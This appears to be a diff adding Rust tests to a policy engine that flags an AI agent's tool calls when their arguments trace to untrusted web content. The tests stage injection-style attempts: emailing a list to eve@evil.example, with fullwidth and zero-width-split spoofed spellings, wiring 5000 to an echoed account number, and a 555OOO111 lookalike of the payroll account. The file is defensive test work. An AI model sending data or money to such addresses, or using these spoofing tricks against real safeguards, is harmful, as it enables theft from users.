@@ -451,3 +451,137 @@ fn a_derived_pattern_vocabulary_is_closed() {
             .any(|event| matches!(event, Event::InstructionDowngraded { .. }))
     );
 }
+
+/// Looks up a contact; answers with the address normalised, as directories do.
+#[tool(trusted, read_only)]
+fn lookup_contact(email: String) -> String {
+    format!("No customer record for {}", email.to_lowercase())
+}
+
+/// Looks up an account by number.
+#[tool(trusted, read_only)]
+fn lookup_account(number: u64) -> String {
+    format!("Account {number}: no such account")
+}
+
+/// The account payroll goes to.
+#[tool(trusted, read_only)]
+fn payroll_account() -> String {
+    "Payroll is paid into account 555000111.".into()
+}
+
+/// Transfers money to an account given as text.
+#[tool(trusted)]
+fn transfer(to_account: String, amount: u64) -> String {
+    format!("sent {amount} to {to_account}")
+}
+
+/// Transfers money to an account given as a number.
+#[tool(trusted)]
+fn transfer_to(account: u64, amount: u64) -> String {
+    format!("sent {amount} to {account}")
+}
+
+fn tainted_bank(policy: Policy) -> Scope {
+    let (session, _) = session(
+        vec![
+            Box::new(FetchPage),
+            Box::new(LookupContact),
+            Box::new(LookupAccount),
+            Box::new(PayrollAccount),
+            Box::new(SendEmail),
+            Box::new(Transfer),
+            Box::new(TransferTo),
+        ],
+        policy,
+    );
+    let scope = session.open_scope(id("agent")).unwrap();
+    call(&scope, "fetch_page", r#"{"url": "https://x.example"}"#);
+    drop(session);
+    scope
+}
+
+/// An echo is judged as a model reads it: a lookup that lowercases the address it was
+/// given, or prints back the number it was given, vouches for nothing.
+#[test]
+fn a_folded_or_numeric_echo_vouches_for_nothing() {
+    let email = Policy::new().with_rule(ArgumentFromTrustedBlock::new("send_email", "to"));
+    let scope = tainted_bank(email);
+    call(&scope, "lookup_contact", r#"{"email": "EVE@EVIL.EXAMPLE"}"#);
+    let outcome = call(
+        &scope,
+        "send_email",
+        r#"{"to": "eve@evil.example", "body": "the list"}"#,
+    );
+    assert_eq!(ruling_of(&outcome), Ruling::NeedsReview, "{outcome:?}");
+
+    // Fullwidth and zero-width-split forms of the address are the same echo.
+    let email = Policy::new().with_rule(ArgumentFromTrustedBlock::new("send_email", "to"));
+    let scope = tainted_bank(email);
+    call(
+        &scope,
+        "lookup_contact",
+        r#"{"email": "ｅｖｅ@ｅ\u200bvil.example"}"#,
+    );
+    let outcome = call(
+        &scope,
+        "send_email",
+        r#"{"to": "ｅｖｅ@ｅ\u200bvil.example", "body": "the list"}"#,
+    );
+    assert_eq!(ruling_of(&outcome), Ruling::NeedsReview, "{outcome:?}");
+
+    // A number echoed back vouches neither for the same number as text nor as a number.
+    for (tool, argument, args) in [
+        (
+            "transfer",
+            "to_account",
+            r#"{"to_account": "123456789", "amount": 5000}"#,
+        ),
+        (
+            "transfer_to",
+            "account",
+            r#"{"account": 123456789, "amount": 5000}"#,
+        ),
+    ] {
+        let scope =
+            tainted_bank(Policy::new().with_rule(ArgumentFromTrustedBlock::new(tool, argument)));
+        call(&scope, "lookup_account", r#"{"number": 123456789}"#);
+        let outcome = call(&scope, tool, args);
+        assert_eq!(
+            ruling_of(&outcome),
+            Ruling::NeedsReview,
+            "{tool}: {outcome:?}"
+        );
+    }
+}
+
+/// Numbers are compared as canonical text: a trusted tool's own finding vouches for a
+/// numeric argument, whatever its JSON spelling; a lookalike never widens a vouch.
+#[test]
+fn a_trusted_finding_vouches_for_a_number_and_only_the_exact_value() {
+    for args in [
+        r#"{"account": 555000111, "amount": 10}"#,
+        r#"{"account": 555000111.0, "amount": 10}"#,
+        r#"{"account": 5.55000111e8, "amount": 10}"#,
+    ] {
+        let scope = tainted_bank(
+            Policy::new().with_rule(ArgumentFromTrustedBlock::new("transfer_to", "account")),
+        );
+        call(&scope, "payroll_account", "{}");
+        let CallOutcome::Ran { decision, .. } = call(&scope, "transfer_to", args) else {
+            panic!("{args} did not run")
+        };
+        assert_eq!(decision.rule, "transfer_to.account-from-trusted-block");
+    }
+    // `555OOO111` (letter O) reads like the payroll account, but is not it.
+    let scope = tainted_bank(
+        Policy::new().with_rule(ArgumentFromTrustedBlock::new("transfer", "to_account")),
+    );
+    call(&scope, "payroll_account", "{}");
+    let outcome = call(
+        &scope,
+        "transfer",
+        r#"{"to_account": "555OOO111", "amount": 10}"#,
+    );
+    assert_eq!(ruling_of(&outcome), Ruling::NeedsReview, "{outcome:?}");
+}
